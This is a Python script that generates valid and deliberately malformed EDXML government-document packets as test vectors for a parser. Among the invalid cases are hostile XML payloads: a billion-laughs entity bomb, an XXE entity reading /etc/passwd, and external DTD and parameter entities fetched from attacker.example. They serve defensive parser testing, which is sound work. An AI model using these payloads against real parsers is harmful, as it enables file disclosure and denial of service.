"""Generate the EDXML test corpus: valid packets and malformed ones, each naming its reason.

Run from the repository root::

    python tests/vectors/edxml/make_vectors.py

It rewrites ``valid/``, ``invalid/`` and ``manifest.toml`` beside this file. Generation is
deterministic; ``tests/unit/edxml/test_edxml_vectors.py`` checks that the committed files equal a
fresh generation, then parses every vector and compares the outcome with the manifest.

Manifest entries (``[[vector]]``): ``file``, ``expect`` (``"document"``, ``"status"`` or a
reason code), ``description``, and optionally ``limits`` (a table of :class:`hub.edxml.Limits`
fields), ``status_code``, ``business_kind``, ``classified``.
"""

from __future__ import annotations

import base64
import dataclasses
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any

from hub.edxml import (
    VIETNAM_TZ,
    Attachment,
    BusinessDocType,
    Organization,
    SignaturePlacement,
    StaffInfo,
    StatusCode,
    build_envelope,
    build_status,
    response_for,
    sample_header,
    sample_trace,
)
from hub.edxml.model import MessageHeader, ReplacementInfo, TraceHeaderList

HERE = Path(__file__).resolve().parent
AT = datetime(2026, 11, 20, 9, 15, 2, tzinfo=VIETNAM_TZ)

UBND = Organization(
    "000.00.00.H27",
    "Ủy ban nhân dân tỉnh Hà Tĩnh",
    "",
    "Số 1 Nguyễn Du, phường Thành Sen, tỉnh Hà Tĩnh",
    "ubnd@hatinh.gov.vn",
)
VP = Organization(
    "000.00.01.H27", "Văn phòng Ủy ban nhân dân tỉnh Hà Tĩnh", "Ủy ban nhân dân tỉnh Hà Tĩnh"
)
SNV = Organization("000.00.02.H27", "Sở Nội vụ tỉnh Hà Tĩnh", "Ủy ban nhân dân tỉnh Hà Tĩnh")
STC = Organization("000.00.03.H27", "Sở Tài chính tỉnh Hà Tĩnh", "Ủy ban nhân dân tỉnh Hà Tĩnh")
COMMUNE = Organization("H27.102", "Ủy ban nhân dân xã Cẩm Xuyên", "Ủy ban nhân dân tỉnh Hà Tĩnh")
NGHE_AN = Organization("000.00.00.H41", "Ủy ban nhân dân tỉnh Nghệ An")

MAIN_PDF = b"%PDF-1.7\n% van ban chinh (synthetic)\n%%EOF\n"
ANNEX = b"%PDF-1.7\n% phu luc (synthetic)\n%%EOF\n"


def _attachments(prefix: str) -> tuple[Attachment, ...]:
    return (
        Attachment(f"{prefix}-main", f"{prefix}.pdf", "application/pdf", "Văn bản chính", MAIN_PDF),
        Attachment(f"{prefix}-annex", f"{prefix}-phu-luc.pdf", "application/pdf", "Phụ lục", ANNEX),
    )


def _document(
    kind: str,
    sender: Organization,
    recipients: tuple[Organization, ...],
    number: str,
    notation: str,
    subject: str,
    *,
    business: BusinessDocType = BusinessDocType.NEW,
    tweak: Callable[[MessageHeader], MessageHeader] | None = None,
    trace: TraceHeaderList | None = None,
) -> bytes:
    header = sample_header(
        sender, recipients, number=number, notation=notation, subject=subject, kind=kind
    )
    if tweak is not None:
        header = tweak(header)
    if trace is None:
        trace = sample_trace(
            sender.organ_id,
            AT,
            kind=business,
            reason={
                BusinessDocType.NEW: "Văn bản điện tử mới",
                BusinessDocType.REVOCATION: "Thu hồi do ban hành nhầm",
                BusinessDocType.UPDATE: "Cập nhật thông tin văn bản",
                BusinessDocType.REPLACEMENT: "Thay thế văn bản có sai sót",
            }[business],
            replaced_document_id=None if business is BusinessDocType.NEW else ORIGINAL_ID,
        )
    return build_envelope(header, trace=trace, attachments=_attachments(f"{number}-{kind}"))


ORIGINAL_ID = "000.00.00.H27,2026/11/20,125/QĐ-UBND"


def _valid() -> list[tuple[str, bytes, dict[str, Any]]]:
    out: list[tuple[str, bytes, dict[str, Any]]] = []

    def doc(name: str, data: bytes, description: str, **extra: Any) -> None:
        out.append(
            (f"valid/{name}.xml", data, {"expect": "document", "description": description, **extra})
        )

    doc(
        "document-cong-van",
        _document(
            "cong_van", SNV, (UBND, VP), "412", "SNV-CCVC", "V/v triển khai chữ ký số chuyên dùng"
        ),
        "công văn from a department to the province and its office",
        business_kind=0,
    )
    doc(
        "document-quyet-dinh",
        _document(
            "quyet_dinh",
            UBND,
            (SNV, STC),
            "125",
            "QĐ-UBND",
            "Quyết định ban hành quy chế gửi, nhận văn bản điện tử",
        ),
        "quyết định from the province to two departments",
    )
    doc(
        "document-to-trinh",
        _document("to_trinh", STC, (UBND,), "88", "TTr-STC", "Tờ trình phê duyệt dự toán năm 2027"),
        "tờ trình from a department to the province",
    )
    doc(
        "document-bao-cao",
        _document(
            "bao_cao",
            COMMUNE,
            (SNV,),
            "15",
            "BC-UBND",
            "Báo cáo kết quả sử dụng chữ ký số năm 2026",
        ),
        "báo cáo from a commune created in 2025 (Decision 20/2020 code)",
    )
    doc(
        "document-thong-bao",
        _document(
            "thong_bao",
            VP,
            (UBND, SNV, STC, COMMUNE),
            "301",
            "TB-VP",
            "Thông báo kết luận của Chủ tịch UBND tỉnh",
        ),
        "thông báo to four recipients, mixed code formats",
    )
    doc(
        "document-revocation",
        _document(
            "thong_bao",
            UBND,
            (SNV,),
            "126",
            "TB-UBND",
            "Thu hồi Quyết định số 125/QĐ-UBND",
            business=BusinessDocType.REVOCATION,
        ),
        "revocation (BussinessDocType 1)",
        business_kind=1,
    )
    doc(
        "document-update",
        _document(
            "quyet_dinh",
            UBND,
            (SNV,),
            "127",
            "QĐ-UBND",
            "Cập nhật Quyết định số 125/QĐ-UBND",
            business=BusinessDocType.UPDATE,
        ),
        "update (BussinessDocType 2)",
        business_kind=2,
    )
    replacement_trace = dataclasses.replace(
        sample_trace(
            UBND.organ_id,
            AT,
            kind=BusinessDocType.REPLACEMENT,
            reason="Thay thế",
            replaced_document_id=ORIGINAL_ID,
        )
    )
    assert replacement_trace.business is not None
    replacement_trace = dataclasses.replace(
        replacement_trace,
        business=dataclasses.replace(
            replacement_trace.business,
            replacements=(ReplacementInfo(ORIGINAL_ID, ("000.00.02.H27", "000.00.03.H27")),),
        ),
    )
    doc(
        "document-replacement",
        _document(
            "quyet_dinh",
            UBND,
            (SNV, STC),
            "128",
            "QĐ-UBND",
            "Thay thế Quyết định số 125/QĐ-UBND",
            trace=replacement_trace,
        ),
        "replacement (BussinessDocType 3) with a ReplacementInfoList",
        business_kind=3,
    )
    original = sample_header(UBND, SNV, number="125", notation="QĐ-UBND")
    doc(
        "document-reply",
        _document(
            "bao_cao",
            SNV,
            (UBND,),
            "77",
            "BC-SNV",
            "Báo cáo thực hiện Quyết định số 125/QĐ-UBND",
            tweak=lambda h: dataclasses.replace(h, response_for=(response_for(original),)),
        ),
        "a reply carrying ResponseFor",
    )
    doc(
        "document-to-other-province",
        _document(
            "cong_van",
            UBND,
            (NGHE_AN,),
            "902",
            "UBND-VX",
            "V/v phối hợp quản lý tuyến giao thông liên tỉnh",
        ),
        "to a body reached through the national axis",
    )
    doc(
        "document-classified",
        _document(
            "cong_van",
            UBND,
            (SNV,),
            "5",
            "UBND-NC",
            "Văn bản có độ mật",
            tweak=lambda h: dataclasses.replace(
                h, other_info=dataclasses.replace(h.other_info, security_level="Mật")
            ),
        ),
        "well-formed but marked secret (routing refuses it: DOCUMENT_CLASSIFIED)",
        classified=True,
    )
    any_order = _document("cong_van", SNV, (UBND,), "413", "SNV-VP", "Thứ tự phần tử khác")
    doc_id = b"<edXML:DocumentId>000.00.02.H27,2026/11/20,413/SNV-VP</edXML:DocumentId>"
    moved = any_order.replace(b"        " + doc_id + b"\n", b"")
    moved = moved.replace(
        b"        <edXML:Code>", b"        " + doc_id + b"\n        <edXML:Code>", 1
    )
    assert moved != any_order
    doc("document-any-order", moved, "DocumentId right after To, as some integrators send it")
    hcm = sample_header(
        Organization("00.64.H29", "UBND quận Tân Phú"), UBND, number="9", notation="UBND"
    )
    doc(
        "document-legacy-3-group",
        build_envelope(hcm),
        "older 3-group code 00.64.H29; no attachment, no trace",
    )
    doc(
        "document-signature-header-end",
        build_envelope(
            sample_header(VP, SNV, number="88", notation="VP-TH"),
            trace=sample_trace(VP.organ_id, AT),
            attachments=_attachments("88-header-end"),
            signature_placement=SignaturePlacement.HEADER_END,
        ),
        "signature placeholder as the last child of edXMLHeader (the other accepted placement; "
        "the default is inside edXML:DigitalSignature)",
    )

    rf = response_for(sample_header(SNV, UBND, number="412", notation="SNV-CCVC"))
    staff = StaffInfo("Văn thư", "Lê Văn Cường", "0912000000", "vanthu@hatinh.gov.vn")
    for code in [*StatusCode, "09"]:
        value = str(code)
        sender = SNV if value == "13" else UBND
        desc = code.vi if isinstance(code, StatusCode) else "Mã dự phòng (chuyển tiếp)"
        out.append(
            (
                f"valid/status-{value}.xml",
                build_status(
                    response_for=rf,
                    sender=sender,
                    status_code=value,
                    timestamp=AT,
                    description=desc,
                    staff_info=staff,
                ),
                {
                    "expect": "status",
                    "description": f"status {value}: {desc}",
                    "status_code": value,
                },
            )
        )
    return out


ROOT_OPEN = b'<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">'
BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE edXML [
 <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
 <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
 <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
]>
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">&f;</edXML>
"""


def _invalid() -> list[tuple[str, bytes, dict[str, Any]]]:
    base = _document("cong_van", SNV, (UBND,), "412", "SNV-CCVC", "Văn bản gốc để làm hỏng")
    status = build_status(
        response_for=response_for(sample_header(SNV, UBND, number="412", notation="SNV-CCVC")),
        sender=UBND,
        status_code="03",
        timestamp=AT,
    )

    def sub(old: bytes, new: bytes, data: bytes = base, count: int = 1) -> bytes:
        assert old in data, old
        return data.replace(old, new, count)

    main_b64 = base64.b64encode(MAIN_PDF)
    cases: list[tuple[str, str, bytes, str, dict[str, Any]]] = [
        (
            "ENVELOPE_MALFORMED",
            "not-xml",
            b"This is a scanned letter, not XML.\n",
            "plain text",
            {},
        ),
        (
            "ENVELOPE_MALFORMED",
            "unclosed-element",
            sub(b"</edXML:Subject>", b""),
            "Subject never closed",
            {},
        ),
        ("ENVELOPE_MALFORMED", "empty", b"", "zero bytes", {}),
        (
            "ENVELOPE_MALFORMED",
            "truncated",
            base[: len(base) // 2],
            "cut in the middle of transfer",
            {},
        ),
        (
            "ENVELOPE_MALFORMED",
            "two-roots",
            base + b"<edXML/>\n",
            "junk after the document element",
            {},
        ),
        (
            "ENVELOPE_TOO_LARGE",
            "over-byte-limit",
            base,
            "bigger than limits.max_bytes",
            {"limits": {"max_bytes": 4096}},
        ),
        (
            "ENVELOPE_TOO_DEEP",
            "nested-200",
            b'<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">'
            + b"<a>" * 200
            + b"</a>" * 200
            + b"</edXML>",
            "200 nested elements",
            {},
        ),
        (
            "ENVELOPE_TOO_MANY_ELEMENTS",
            "over-element-limit",
            base,
            "more elements than limits.max_elements",
            {"limits": {"max_elements": 50}},
        ),
        ("ENVELOPE_DTD_FORBIDDEN", "entity-expansion-bomb", BOMB, "billion laughs", {}),
        (
            "ENVELOPE_DTD_FORBIDDEN",
            "xxe-local-file",
            b'<?xml version="1.0"?>\n<!DOCTYPE edXML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
            + ROOT_OPEN
            + b"&x;</edXML>\n",
            "external entity (XXE)",
            {},
        ),
        (
            "ENVELOPE_DTD_FORBIDDEN",
            "external-dtd",
            b'<?xml version="1.0"?>\n<!DOCTYPE edXML SYSTEM "http://attacker.example/x.dtd">\n'
            + base.split(b"\n", 1)[1],
            "external DTD before a valid document",
            {},
        ),
        (
            "ENVELOPE_DTD_FORBIDDEN",
            "parameter-entity",
            b'<?xml version="1.0"?>\n'
            b'<!DOCTYPE edXML [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>\n'
            + ROOT_OPEN
            + b"</edXML>\n",
            "out-of-band parameter entity",
            {},
        ),
        (
            "ENVELOPE_NOT_EDXML",
            "go-vn-namespace",
            b'<?xml version="1.0" encoding="utf-8"?>\n<EdXMLEnvelope xmlns="http://www.go.vn/eDoc"><EdXMLHeader/></EdXMLEnvelope>\n',
            "the wrong namespace some integrators used",
            {},
        ),
        (
            "ENVELOPE_NOT_EDXML",
            "no-namespace",
            sub(b' xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016"', b""),
            "root without the QCVN namespace",
            {},
        ),
        (
            "ENVELOPE_NOT_EDXML",
            "soap-envelope",
            b'<SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/"><SOAP-ENV:Header/><SOAP-ENV:Body/></SOAP-ENV:Envelope>',
            "a SOAP envelope",
            {},
        ),
        (
            "ENVELOPE_ENCODING_INVALID",
            "latin1-declared",
            sub(b'encoding="UTF-8"', b'encoding="ISO-8859-1"'),
            "declares ISO-8859-1",
            {},
        ),
        (
            "ENVELOPE_ENCODING_INVALID",
            "utf16",
            base.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"),
            "UTF-16 with BOM",
            {},
        ),
        (
            "ENVELOPE_ENCODING_INVALID",
            "invalid-utf8-bytes",
            sub("Văn bản gốc".encode(), b"V\xe3n b\xe1n g\xf4c"),
            "Windows-1258 bytes in a UTF-8 document",
            {},
        ),
        (
            "ENVELOPE_SCHEMA_INVALID",
            "unknown-element",
            sub(b"<edXML:Subject>", b"<edXML:Secret>1</edXML:Secret><edXML:Subject>"),
            "element not in QCVN 102",
            {},
        ),
        (
            "ENVELOPE_SCHEMA_INVALID",
            "missing-to",
            _drop_block(base, b"<edXML:To>", b"</edXML:To>"),
            "no recipient",
            {},
        ),
        (
            "ENVELOPE_SCHEMA_INVALID",
            "two-from",
            sub(
                b"<edXML:Code>",
                b"<edXML:From><edXML:OrganId>000.00.03.H27</edXML:OrganId></edXML:From><edXML:Code>",
            ),
            "two senders",
            {},
        ),
        (
            "ENVELOPE_SCHEMA_INVALID",
            "missing-body",
            _drop_block(base, b"<edXML:edXMLBody>", b"</edXML:edXMLBody>"),
            "no edXMLBody",
            {},
        ),
        (
            "ENVELOPE_SCHEMA_INVALID",
            "signature-outside-header",
            sub(
                b"</edXML>",
                b'<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"/></edXML>',
            ),
            "ds:Signature at the root",
            {},
        ),
        (
            "ENVELOPE_SCHEMA_INVALID",
            "type-not-a-number",
            sub(b"<edXML:Type>18</edXML:Type>", b"<edXML:Type>CV</edXML:Type>"),
            "DocumentType/Type not an integer",
            {},
        ),
        (
            "ENVELOPE_SCHEMA_INVALID",
            "business-doc-type-7",
            sub(
                b"<edXML:BussinessDocType>0</edXML:BussinessDocType>",
                b"<edXML:BussinessDocType>7</edXML:BussinessDocType>",
            ),
            "BussinessDocType outside 0-3",
            {},
        ),
        (
            "ENVELOPE_SCHEMA_INVALID",
            "status-without-code",
            _drop_block(status, b"<edXML:StatusCode>", b"</edXML:StatusCode>"),
            "status packet without StatusCode",
            {},
        ),
        (
            "ORGAN_ID_INVALID",
            "from-lowercase",
            sub(
                b"<edXML:OrganId>000.00.02.H27</edXML:OrganId>",
                b"<edXML:OrganId>000.00.02.h27</edXML:OrganId>",
            ),
            "lower-case level-1 letter",
            {},
        ),
        (
            "ORGAN_ID_INVALID",
            "to-too-long",
            sub(
                b"<edXML:OrganId>000.00.00.H27</edXML:OrganId>",
                b"<edXML:OrganId>H27." + b"9" * 40 + b"</edXML:OrganId>",
            ),
            "over 35 characters",
            {},
        ),
        (
            "ORGAN_ID_INVALID",
            "trace-organ-id",
            sub(
                b"<edXML:TraceHeader>\n          <edXML:OrganId>000.00.02.H27</edXML:OrganId>",
                b"<edXML:TraceHeader>\n          <edXML:OrganId>SNV-HT</edXML:OrganId>",
            ),
            "trace hop with a free-text id",
            {},
        ),
        (
            "ORGAN_ID_INVALID",
            "status-from",
            sub(
                b"<edXML:OrganId>000.00.00.H27</edXML:OrganId>",
                b"<edXML:OrganId>UBND tinh</edXML:OrganId>",
                status,
            ),
            "status reporter id malformed",
            {},
        ),
        (
            "DOCUMENT_ID_INVALID",
            "missing-notation",
            sub(
                b",2026/11/20,412/SNV-CCVC</edXML:DocumentId>",
                b",2026/11/20,412</edXML:DocumentId>",
            ),
            "no number/notation",
            {},
        ),
        (
            "DOCUMENT_ID_INVALID",
            "other-sender",
            sub(b"<edXML:DocumentId>000.00.02.H27,", b"<edXML:DocumentId>000.00.03.H27,"),
            "DocumentId names another sender",
            {},
        ),
        (
            "DOCUMENT_ID_INVALID",
            "date-differs",
            sub(
                b"<edXML:DocumentId>000.00.02.H27,2026/11/20,",
                b"<edXML:DocumentId>000.00.02.H27,2026/11/19,",
            ),
            "DocumentId date is not PromulgationDate",
            {},
        ),
        (
            "DOCUMENT_ID_INVALID",
            "status-response-for",
            sub(
                b"<edXML:DocumentId>000.00.02.H27,2026/11/20,412/SNV-CCVC</edXML:DocumentId>",
                b"<edXML:DocumentId>412/SNV-CCVC</edXML:DocumentId>",
                status,
            ),
            "status ResponseFor/DocumentId malformed",
            {},
        ),
        (
            "DATE_INVALID",
            "promulgation-day-first",
            sub(
                b"<edXML:PromulgationDate>2026/11/20</edXML:PromulgationDate>",
                b"<edXML:PromulgationDate>20/11/2026</edXML:PromulgationDate>",
            ),
            "dd/MM/yyyy date",
            {},
        ),
        (
            "DATE_INVALID",
            "february-30",
            sub(
                b"<edXML:PromulgationDate>2026/11/20</edXML:PromulgationDate>",
                b"<edXML:PromulgationDate>2026/02/30</edXML:PromulgationDate>",
            ),
            "a day that does not exist",
            {},
        ),
        (
            "DATE_INVALID",
            "trace-timestamp",
            sub(
                b"<edXML:Timestamp>2026/11/20 09:15:02</edXML:Timestamp>",
                b"<edXML:Timestamp>2026-11-20T09:15:02Z</edXML:Timestamp>",
            ),
            "ISO timestamp instead of yyyy/MM/dd HH:mm:ss",
            {},
        ),
        (
            "DATE_INVALID",
            "due-date",
            sub(b"<edXML:ToPlaces>", b"<edXML:DueDate>tomorrow</edXML:DueDate><edXML:ToPlaces>"),
            "DueDate not a date",
            {},
        ),
        (
            "DATE_INVALID",
            "status-timestamp",
            sub(
                b"<edXML:Timestamp>2026/11/20 09:15:02</edXML:Timestamp>",
                b"<edXML:Timestamp>2026/13/20 09:15:02</edXML:Timestamp>",
                status,
            ),
            "month 13",
            {},
        ),
        (
            "ATTACHMENT_ENCODING_INVALID",
            "not-base64",
            sub(main_b64, b"this is not base64!!"),
            "characters outside the base64 alphabet",
            {},
        ),
        (
            "ATTACHMENT_ENCODING_INVALID",
            "bad-padding",
            sub(main_b64, main_b64.rstrip(b"=") + b"A"),
            "length not a multiple of four",
            {},
        ),
        (
            "ATTACHMENT_TOO_LARGE",
            "over-attachment-limit",
            base,
            "attachment bigger than limits.max_attachment_bytes",
            {"limits": {"max_attachment_bytes": 16}},
        ),
        (
            "ATTACHMENT_NOT_IN_MANIFEST",
            "undeclared-attachment",
            _drop_block(base, b"<edXML:Reference ", b"</edXML:Reference>"),
            "attachment the manifest does not declare",
            {},
        ),
        (
            "ATTACHMENT_NOT_IN_MANIFEST",
            "declared-but-absent",
            _drop_block(base, b"<Attachment>", b"</Attachment>"),
            "manifest entry without its attachment",
            {},
        ),
        (
            "ATTACHMENT_NOT_IN_MANIFEST",
            "duplicate-content-id",
            sub(
                b"<ContentId>412-cong_van-annex</ContentId>",
                b"<ContentId>412-cong_van-main</ContentId>",
            ),
            "two attachments with one ContentId",
            {},
        ),
        (
            "STATUS_CODE_INVALID",
            "three-digits",
            sub(
                b"<edXML:StatusCode>03</edXML:StatusCode>",
                b"<edXML:StatusCode>003</edXML:StatusCode>",
                status,
            ),
            "three digits",
            {},
        ),
        (
            "STATUS_CODE_INVALID",
            "letters",
            sub(
                b"<edXML:StatusCode>03</edXML:StatusCode>",
                b"<edXML:StatusCode>OK</edXML:StatusCode>",
                status,
            ),
            "not a number",
            {},
        ),
        # -- issue 16: only signed bytes travel (M1), UTF-8 decided before parsing (L2),
        # -- fields bounded for the ledger (H1)
        (
            "ENVELOPE_CONTENT_OUTSIDE_ROOT",
            "stylesheet-before-root",
            sub(b"?>\n", b'?>\n<?xml-stylesheet type="text/xsl" href="render.xsl"?>\n'),
            "an xml-stylesheet processing instruction before the root (unsigned)",
            {},
        ),
        (
            "ENVELOPE_CONTENT_OUTSIDE_ROOT",
            "comment-after-root",
            base + b"<!-- added in transit -->\n",
            "a comment after the root element (unsigned)",
            {},
        ),
        (
            "ENVELOPE_ENCODING_INVALID",
            "utf16-without-bom",
            base.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
            .encode("utf-16-le"),
            "UTF-16 LE without a byte-order mark",
            {},
        ),
        (
            "ENVELOPE_ENCODING_INVALID",
            "nul-byte",
            sub("Văn bản gốc".encode(), "Văn bản\x00gốc".encode()),
            "a NUL byte in a UTF-8 document",
            {},
        ),
        (
            "FIELD_TOO_LONG",
            "document-id-129",
            _long_document_id(base),
            "DocumentId of 129 characters (the ledger keeps 128)",
            {},
        ),
        (
            "FIELD_TOO_LONG",
            "subject-over-text-limit",
            sub(b"<edXML:Subject>", b"<edXML:Subject>" + "Ắ".encode() * 4097),
            "Subject over 4096 characters",
            {},
        ),
        (
            "ENVELOPE_TOO_MANY_ATTRIBUTES",
            "namespace-declarations-on-one-element",
            sub(b"<edXML:edXMLHeader>", b"<edXML:edXMLHeader"
                + b"".join(b' xmlns:n%d="urn:n%d"' % (i, i) for i in range(33)) + b">"),
            "33 namespace declarations on one element (limit 32)",
            {},
        ),
        (
            "ENVELOPE_ENCODING_INVALID",
            "latin1-declared-after-byte-512",
            sub(b'encoding="UTF-8"', b" " * 600 + b'encoding="ISO-8859-1"'),
            "declares ISO-8859-1 after 600 spaces of the XML declaration",
            {},
        ),
    ]
    out: list[tuple[str, bytes, dict[str, Any]]] = []
    for n, (reason, slug, data, description, extra) in enumerate(cases, start=1):
        out.append(
            (
                f"invalid/{n:02d}-{reason}-{slug}.xml",
                data,
                {"expect": reason, "description": description, **extra},
            )
        )
    return out


def _long_document_id(data: bytes) -> bytes:
    """``data`` with its notation stretched so that DocumentId has 129 characters (the code,
    in CodeNotation and DocumentId alike, stays consistent and under 128)."""
    start = data.index(b"<edXML:DocumentId>") + len(b"<edXML:DocumentId>")
    document_id = data[start:data.index(b"</edXML:DocumentId>", start)]
    notation = document_id.rsplit(b"/", 1)[1]
    longer = notation + b"X" * (129 - len(document_id))
    out = data.replace(b"/" + notation + b"</edXML:DocumentId>", b"/" + longer
                       + b"</edXML:DocumentId>", 1)
    return out.replace(b"<edXML:CodeNotation>" + notation + b"<",
                       b"<edXML:CodeNotation>" + longer + b"<", 1)


def _drop_block(data: bytes, start: bytes, end: bytes) -> bytes:
    """Remove the first element from ``start`` to ``end`` (inclusive) and its line."""
    i = data.index(start)
    j = data.index(end, i) + len(end)
    line_start = data.rfind(b"\n", 0, i) + 1
    if data[j : j + 1] == b"\n":
        j += 1
    return data[:line_start] + data[j:]


def vectors() -> list[tuple[str, bytes, dict[str, Any]]]:
    """Every vector: (relative path, bytes, manifest fields)."""
    return _valid() + _invalid()


def _toml_value(value: Any) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, dict):
        return "{ " + ", ".join(f"{k} = {_toml_value(v)}" for k, v in value.items()) + " }"
    text = str(value).replace("\\", "\\\\").replace('"', '\\"')
    return f'"{text}"'


def manifest_text(items: list[tuple[str, bytes, dict[str, Any]]]) -> str:
    lines = [
        "# Generated by make_vectors.py; do not edit by hand.",
        '# expect: "document" | "status" | the reason code the parser must give.',
        "",
    ]
    for path, _data, fields in items:
        lines.append("[[vector]]")
        lines.append(f"file = {_toml_value(path)}")
        for key, value in fields.items():
            lines.append(f"{key} = {_toml_value(value)}")
        lines.append("")
    return "\n".join(lines)


def write(target: Path = HERE) -> None:
    items = vectors()
    for sub_dir in ("valid", "invalid"):
        folder = target / sub_dir
        folder.mkdir(parents=True, exist_ok=True)
        for old in folder.glob("*.xml"):
            old.unlink()
    for path, data, _fields in items:
        (target / path).write_bytes(data)
    (target / "manifest.toml").write_text(manifest_text(items), encoding="utf-8")


if __name__ == "__main__":
    write()
    print(f"wrote {len(vectors())} vectors to {HERE}")
